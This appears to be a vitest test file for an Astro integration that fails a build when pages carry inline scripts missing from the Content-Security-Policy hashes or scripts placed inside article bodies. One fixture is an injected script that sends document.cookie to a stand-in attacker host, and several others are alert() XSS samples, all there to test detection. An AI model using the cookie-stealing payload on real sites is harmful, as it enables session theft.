import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import inlineScriptCheck, {
  ARTICLE_BODY_ATTRIBUTE,
  inspectPage,
} from '@/integrations/inlineScripts.ts';
import {
  INLINE_SCRIPTS_DIR,
  inlineScriptHashes,
  minifiedInlineScripts,
  minifyInlineScript,
  sha256Of,
} from '@/integrations/inlineScriptText.ts';

// SHA-256 of the empty string and of "abc" (FIPS 180-2 example), published test vectors.
const EMPTY_HASH = 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=';
const ABC_HASH = 'sha256-ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=';

/** A built page whose CSP meta allows the scripts `declared`, as Astro writes it. */
function page(body: string, declared: string[] = [], extraSources = '') {
  const hashes = declared.map((text) => `'${sha256Of(text)}'`).join(' ');
  const policy = `default-src 'self';object-src 'none'; script-src 'self' ${extraSources}${hashes}; style-src 'self';`;
  return [
    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Page</title>',
    `<meta http-equiv="content-security-policy" content="${policy}">`,
    '</head><body>',
    body,
    '</body></html>',
  ].join('');
}

describe('sha256Of', () => {
  it('hashes the text as browsers do, after turning CRLF and CR into LF', () => {
    expect(sha256Of('')).toBe(EMPTY_HASH);
    expect(sha256Of('abc')).toBe(ABC_HASH);
    expect(sha256Of('a\r\nb\rc')).toBe(sha256Of('a\nb\nc'));
  });
});

describe('minifyInlineScript', () => {
  it('drops comments and spaces and shortens local names, keeping what the script does', async () => {
    const source = [
      '(function () {',
      '  // Sets a flag.',
      '  const longLocalName = document.currentScript.dataset.flag;',
      '  window.flag = longLocalName;',
      '})();',
      '',
    ].join('\n');
    const minified = await minifyInlineScript(source);
    expect(minified).not.toMatch(/Sets a flag|longLocalName|\n/);
    expect(minified).toContain('document.currentScript.dataset.flag');
    const sandbox = { document: { currentScript: { dataset: { flag: 'on' } } }, window: {} };
    new Function('document', 'window', minified)(sandbox.document, sandbox.window);
    expect(sandbox.window).toEqual({ flag: 'on' });
  });

  it('writes no syntax newer than ES2020', async () => {
    expect(await minifyInlineScript('a ||= b;')).not.toContain('||=');
  });

  it('refuses syntax that only a helper module could lower, naming the helpers', async () => {
    const privateField = 'class A { #x = 1; get() { return this.#x; } } new A().get();';
    await expect(minifyInlineScript(privateField, 'counter.js')).rejects.toThrow(
      /^counter\.js: its syntax is newer than ES2020.*babelHelpers\.classPrivateFieldInitSpec/,
    );
  });
});

describe('inlineScriptHashes', () => {
  it('hashes every .js file of the folder as pages carry it (minified), and nothing else', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'lw-inline-'));
    try {
      await writeFile(path.join(dir, 'a.js'), 'abc');
      await writeFile(path.join(dir, 'b.js'), '// Runs one.\none();\n');
      await writeFile(path.join(dir, 'notes.md'), 'not a script');
      expect((await inlineScriptHashes(dir)).sort()).toEqual(
        [sha256Of('abc;'), sha256Of('one();')].sort(),
      );
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("covers the project's inline scripts: the theme script among them", async () => {
    const files = (await readdir(INLINE_SCRIPTS_DIR)).filter((name) => name.endsWith('.js'));
    expect(files).toContain('theme.js');
    const theme = await readFile(path.join(INLINE_SCRIPTS_DIR, 'theme.js'), 'utf8');
    expect(await inlineScriptHashes()).toContain(sha256Of(await minifyInlineScript(theme)));
    expect(await inlineScriptHashes()).toHaveLength(files.length);
  });
});

describe('minifiedInlineScripts (the Vite plugin)', () => {
  const plugin = minifiedInlineScripts();
  const theme = path.join(INLINE_SCRIPTS_DIR, 'theme.js');

  it("gives a `?raw` import of an inline script the minified text that the policy's hash covers", async () => {
    const module = await plugin.load(`${theme}?raw`);
    const text = JSON.parse(module!.replace(/^export default /, '').replace(/;$/, ''));
    expect(text).toBe(await minifyInlineScript(await readFile(theme, 'utf8')));
    expect(await inlineScriptHashes()).toContain(sha256Of(text));
  });

  it('leaves every other import to Vite', async () => {
    expect(await plugin.load(theme)).toBeNull();
    expect(await plugin.load(`${theme}?url`)).toBeNull();
    expect(await plugin.load(path.join(INLINE_SCRIPTS_DIR, '..', 'sendMessage.ts?raw'))).toBeNull();
  });
});

describe('inspectPage', () => {
  it('passes declared inline scripts, external scripts, JSON-LD and JSON data', () => {
    const html = page(
      [
        '<script>abc</script>',
        '<script type="module">abc</script>',
        '<SCRIPT type=" Text/JavaScript " >x()</SCRIPT>',
        '<template data-on-first-use="f"><script type="module">x()</script></template>',
        '<script src="/_astro/a.js"></script>',
        '<script type="module" src="/_astro/b.js"></script>',
        '<script type="application/ld+json">{"@type":"Organization"}</script>',
        '<script type="application/json">{"a":1}</script>',
        '<style>p{}</style>',
      ].join('\n'),
      ['abc', 'x()'],
    );
    expect(inspectPage(html)).toEqual([]);
  });

  it('fails an inline script the policy has no hash for, wherever the parser puts it', () => {
    const injected = [
      '<script>alert(1)</script>',
      '<script data-src="not-src">alert(2)</script>',
      '<script type="importmap">{"imports":{}}</script>',
      '<svg><script>alert(3)</script></svg>',
      '<template><script>alert(4)</script></template>',
      '<table><script>alert(5)</script></table>',
      // Not the declared text: one space more is another hash.
      '<script>abc </script>',
      // Legacy JavaScript type names run too.
      '<script type="text/jscript">alert(6)</script>',
      '<script type="application/x-javascript">alert(7)</script>',
      '<script type="TEXT/JAVASCRIPT1.5">alert(8)</script>',
      '<script type="speculationrules">{"prerender":[]}</script>',
    ];
    for (const html of injected) {
      const problems = inspectPage(page(`<p>text</p>${html}`, ['abc']));
      expect(problems, html).toHaveLength(1);
      expect(problems[0], html).toMatch(/^an inline script the policy has no hash for: /);
    }
  });

  it("takes only script-src's hashes, and none from a page without a policy", () => {
    const script = '<script>abc</script>';
    const elsewhere = `<meta http-equiv="content-security-policy" content="style-src '${ABC_HASH}'">`;
    expect(inspectPage(`<html><head>${elsewhere}</head><body>${script}</body></html>`)).toEqual([
      'an inline script the policy has no hash for: abc',
    ]);
    expect(inspectPage(`<html><head></head><body>${script}</body></html>`)).toHaveLength(1);
    // 'unsafe-inline' is no hash: the check holds to hashes (Astro drops them beside it).
    expect(inspectPage(page(script, [], "'unsafe-inline' "))).toHaveLength(1);
  });

  it('sees what a browser sees: no script in a comment, a textarea or an attribute', () => {
    const html = [
      '<!-- <script>alert(1)</script> -->',
      '<textarea><script>alert(2)</script></textarea>',
      '<div title="<script>alert(3)</script>"></div>',
      '<noscript><script>alert(4)</script></noscript>',
    ].join('');
    expect(inspectPage(page(html))).toEqual([]);
  });

  it(`fails every script or style inside the article body (${ARTICLE_BODY_ATTRIBUTE}), declared or data`, () => {
    for (const inner of [
      '<script>abc</script>',
      '<script type="application/ld+json">{}</script>',
      '<script src="/_astro/a.js"></script>',
      '<p><svg><script>abc</script></svg></p>',
      '<style>body{display:none}</style>',
    ]) {
      const body = `<article><div class="article-body" ${ARTICLE_BODY_ATTRIBUTE}><p>Hi</p>${inner}</div></article>`;
      const problems = inspectPage(page(body, ['abc']));
      expect(problems, inner).toHaveLength(1);
      expect(problems[0], inner).toMatch(/inside the article body/);
    }
  });
});

describe('the check at the end of a build', () => {
  /** Runs the integration's astro:build:done hook over a folder of pages. */
  async function check(pages: Record<string, string>, cacheDir?: string) {
    const dir = await mkdtemp(path.join(tmpdir(), 'lw-csp-'));
    try {
      for (const [file, html] of Object.entries(pages)) {
        await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
        await writeFile(path.join(dir, file), html);
      }
      const hooks = inlineScriptCheck().hooks as Record<string, (o: unknown) => Promise<void>>;
      if (cacheDir)
        await hooks['astro:config:done']({ config: { cacheDir: pathToFileURL(`${cacheDir}/`) } });
      const errors: string[] = [];
      const infos: string[] = [];
      const logger = {
        info: (message: string) => infos.push(message),
        error: (message: string) => errors.push(message),
      };
      const outcome = await hooks['astro:build:done']({ dir: pathToFileURL(`${dir}/`), logger })
        .then(() => 'passed')
        .catch((error: Error) => error.message);
      return { outcome, errors, infos };
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }

  it('passes a site whose inline scripts are all declared', async () => {
    const { outcome, infos } = await check({
      'index.html': page('<script>abc</script>', ['abc']),
      'blog/post.html': page('<script type="application/ld+json">{}</script>'),
    });
    expect(outcome).toBe('passed');
    expect(infos).toEqual([
      expect.stringMatching(/^Content-Security-Policy checked in 2 pages in \d+\.\d s\.$/),
    ]);
  });

  it('fails the build on an undeclared script, or one the sanitiser let into a post, naming the page', async () => {
    for (const body of [
      '<script>fetch("//evil.example/?c=" + document.cookie)</script>',
      `<div ${ARTICLE_BODY_ATTRIBUTE}><p>Hi</p><script>abc</script></div>`,
      // Closing the body early does not help: the script is still undeclared.
      `<div ${ARTICLE_BODY_ATTRIBUTE}><p>Hi</p></div><script>alert(1)</script>`,
    ]) {
      const { outcome, errors } = await check({
        'index.html': page('<script>abc</script>', ['abc']),
        'blog/post.html': page(body, ['abc']),
      });
      expect(outcome, body).toMatch(
        /^1 inline script\(s\) or style\(s\) that the Content-Security/,
      );
      expect(errors, body).toHaveLength(1);
      expect(errors[0], body).toMatch(/^blog\/post\.html: /);
    }
  });

  it('parses again only the pages that changed since a build that passed, and never trusts a failed one', async () => {
    const cacheDir = await mkdtemp(path.join(tmpdir(), 'lw-csp-cache-'));
    try {
      const good = page('<script>abc</script>', ['abc']);
      const site = { 'index.html': good, 'about.html': page('<p>About</p>') };
      expect((await check(site, cacheDir)).infos).toEqual([
        expect.stringMatching(/^Content-Security-Policy checked in 2 pages in \d+\.\d s\.$/),
      ]);
      expect((await check(site, cacheDir)).infos).toEqual([
        expect.stringMatching(
          /^Content-Security-Policy checked in 2 pages \(2 unchanged since a build that passed\) in \d+\.\d s\.$/,
        ),
      ]);
      // An undeclared script in a changed page fails, and fails again in the next build.
      const bad = { ...site, 'about.html': page('<script>alert(1)</script>') };
      for (let build = 0; build < 2; build += 1) {
        const { outcome, errors } = await check(bad, cacheDir);
        expect(outcome).toMatch(/^1 inline script/);
        expect(errors).toEqual([expect.stringMatching(/^about\.html: an inline script/)]);
      }
      // A damaged record of the last build costs a full check, not a failed build.
      await writeFile(path.join(cacheDir, 'inline-script-check.json'), '{"checker":');
      expect((await check(site, cacheDir)).infos).toEqual([
        expect.stringMatching(/^Content-Security-Policy checked in 2 pages in \d+\.\d s\.$/),
      ]);
    } finally {
      await rm(cacheDir, { recursive: true, force: true });
    }
  });
});
